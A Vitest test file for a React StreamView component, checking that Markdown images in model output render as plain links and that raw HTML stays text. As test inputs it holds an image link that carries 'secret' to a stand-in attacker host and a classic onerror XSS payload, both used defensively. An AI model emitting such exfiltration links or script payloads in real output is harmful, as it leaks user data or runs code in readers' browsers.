/** Model output never loads a remote image: Markdown images render as links to their address. */
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { StreamView } from "../../components/playground/StreamView";

describe("StreamView markdown", () => {
  it("shows an image as a link, with no <img>", () => {
    const html = renderToStaticMarkup(<StreamView text={"Here: ![logo](https://evil.test/p.png?q=secret) done"} tokens={[]} showTokens={false} streaming={false} />);
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('href="https://evil.test/p.png?q=secret"');
    expect(html).toContain("[image: logo] https://evil.test/p.png?q=secret");
    expect(html).toMatch(/rel="noopener noreferrer nofollow"/);
  });
  it("still renders other markdown, and raw HTML stays text", () => {
    const html = renderToStaticMarkup(<StreamView text={"**bold** <img src=x onerror=alert(1)>"} tokens={[]} showTokens={false} streaming={false} />);
    expect(html).toContain("<strong>bold</strong>");
    expect(html).not.toMatch(/<img/i);
  });
});
